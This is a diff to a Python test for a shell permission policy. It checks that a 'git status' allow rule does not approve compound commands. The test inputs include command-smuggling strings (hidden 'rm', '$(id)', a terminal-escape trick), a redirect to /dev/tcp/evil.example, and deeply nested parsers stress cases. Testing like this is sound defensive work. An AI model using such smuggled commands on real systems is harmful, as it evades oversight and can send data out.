@@ -82,7 +82,7 @@ def test_deny_rules_see_commands_hidden_in_substitutions_and_sh_c(ws: Workspace)
     "bash -lc 'git status'", "FOO=1 git status", "git status; $(echo rm) x", "git statusx",
     "git status 'unterminated", "if true; then git status; fi", "git status > \"$HOME/x\"",
     "git status $((x[$(id)]))", "touch PWNED # \r\x1b[2Kls -la", "git status 2>/dev/tcp/evil.example/80",
-    "git status > *.txt",
+    "git status > *.txt", "git status; " + "(" * 3000 + "ls" + ")" * 3000, "git status " + "$(" * 3000 + "x" + ")" * 3000,
 ])
 def test_prefix_rules_do_not_approve_compound_commands(command: str, ws: Workspace) -> None:
     p = policy(allow=["Bash(git status:*)"])
